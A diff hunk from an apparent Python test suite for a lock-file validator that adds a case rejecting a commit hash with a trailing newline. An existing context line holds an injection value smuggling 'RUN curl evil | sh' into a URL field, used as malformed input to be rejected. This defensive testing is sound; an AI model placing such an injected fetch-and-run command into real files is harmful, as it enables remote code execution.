@@ -105,6 +105,7 @@ def test_a_version_1_lock_is_read_and_reported_as_needing_a_relock(tmp_path: Pat
         ),
         ('commit = "' + "a" * 40 + '"', 'comit = "' + "a" * 40 + '"', "unknown key 'comit'"),
         ('commit = "' + "a" * 40 + '"', 'commit = "HEAD"', "40-hex"),
+        ('commit = "' + "a" * 40 + '"', 'commit = "' + "a" * 40 + '\\n"', "40-hex"),
         (
             'url = "https://gitcode.com/cann/opbase.git"',
             'url = "https://gitcode.com/cann/opbase.git\\nRUN curl evil | sh"',
